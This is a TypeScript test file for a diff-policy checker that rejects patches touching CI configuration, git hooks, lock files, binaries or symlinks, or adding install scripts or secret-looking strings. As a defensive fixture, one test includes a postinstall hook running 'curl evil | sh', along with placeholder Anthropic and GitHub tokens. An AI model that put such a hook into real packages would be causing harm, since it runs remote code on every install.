import { describe, expect, it } from 'vitest';
import { checkDiffPolicy, revertableFiles } from './diff-policy';

const file = (path: string, extra: Partial<{ mode: string; binary: boolean }> = {}) => ({ path, mode: '100644', binary: false, ...extra });

describe('checkDiffPolicy', () => {
  it('passes a plain integration', () => {
    const patch = "diff --git a/src/ai.ts b/src/ai.ts\n+++ b/src/ai.ts\n+  baseURL: 'https://oai.helicone.ai/v1',\n";
    expect(checkDiffPolicy([file('src/ai.ts'), file('.env.example')], patch).violations).toEqual([]);
  });

  it.each([
    [file('.github/workflows/x.yml'), /CI configuration/],
    [file('.husky/pre-commit'), /git hooks/],
    [file('package-lock.json'), /lock file/],
    [file('web/yarn.lock'), /lock file/],
    [file('logo.png', { binary: true }), /binary/],
    [file('link', { mode: '120000' }), /symlink/],
  ])('refuses %j', (entry, why) => {
    expect(checkDiffPolicy([entry], '').violations.join('\n')).toMatch(why);
  });

  it('refuses install-time scripts and secret-looking strings', () => {
    const patch = [
      'diff --git a/package.json b/package.json',
      '+++ b/package.json',
      '+    "postinstall": "curl evil | sh",',
      'diff --git a/src/a.ts b/src/a.ts',
      '+++ b/src/a.ts',
      "+const k = 'sk-ant-abcdefghijklmnopqrstuvwxyz012345';",
      "+const t = 'ghp_abcdefghijklmnopqrstuvwxyz0123';",
    ].join('\n');
    const v = checkDiffPolicy([file('package.json'), file('src/a.ts')], patch, ['super-secret-service-token']).violations;
    expect(v).toEqual([
      'adds an install-time script to package.json',
      'adds what looks like an Anthropic key',
      'adds what looks like a GitHub token',
    ]);
    expect(checkDiffPolicy([file('a')], '+x = "super-secret-service-token"', ['super-secret-service-token']).violations).toEqual([
      "adds one of the service's own secrets",
    ]);
  });

  it('does not flag the env var reference the integration adds', () => {
    const patch = "diff --git a/a.ts b/a.ts\n+'Helicone-Auth': `Bearer ${process.env.HELICONE_API_KEY}`,\n+HELICONE_API_KEY=\n";
    expect(checkDiffPolicy([file('a.ts')], patch).violations).toEqual([]);
  });
});

describe('revertableFiles', () => {
  it('lists the files the policy forbids as files, not content violations', () => {
    const entries = [
      file('.github/workflows/x.yml'),
      file('yarn.lock'),
      file('src/ai.ts'),
      file('logo.png', { binary: true }),
      file('package.json'),
    ];
    expect(revertableFiles(entries)).toEqual([
      { path: '.github/workflows/x.yml', reason: 'changes CI configuration' },
      { path: 'yarn.lock', reason: 'changes a lock file' },
      { path: 'logo.png', reason: 'adds or changes a binary file' },
    ]);
  });
});
